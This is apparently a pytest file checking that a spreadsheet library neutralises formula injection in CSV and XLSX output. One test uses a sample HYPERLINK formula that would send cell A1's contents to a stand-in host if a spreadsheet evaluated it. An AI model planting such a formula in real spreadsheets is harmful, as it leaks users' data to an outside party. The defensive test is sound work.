"""Text cells in the sheets Ladder writes are never formulas (CSV: neutralised; XLSX: typed)."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from ladder.kit.sheets import append_row, csv_row, csv_text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_text_that_could_be_evaluated_gets_an_apostrophe(start):
    assert csv_text(f"{start}1+1") == f"'{start}1+1"


def test_csv_other_values_pass_unchanged():
    assert csv_row(["福州企业", 3, None, "a=b"]) == ["福州企业", 3, None, "a=b"]


def test_xlsx_text_is_text_with_the_value_kept():
    book = Workbook()
    sheet = book.active
    append_row(sheet, ["标题"])
    append_row(sheet, ['=HYPERLINK("http://x/?"&A1,"点击查看")', 7, "-1", "普通文字"])
    out = io.BytesIO()
    book.save(out)
    read = load_workbook(io.BytesIO(out.getvalue())).active
    row = read[2]
    assert [c.value for c in row] == ['=HYPERLINK("http://x/?"&A1,"点击查看")', 7, "-1", "普通文字"]
    assert [c.data_type for c in row] == ["s", "n", "s", "s"]
    assert row[0].quotePrefix and row[2].quotePrefix and not row[3].quotePrefix
    assert read["A1"].value == "标题"
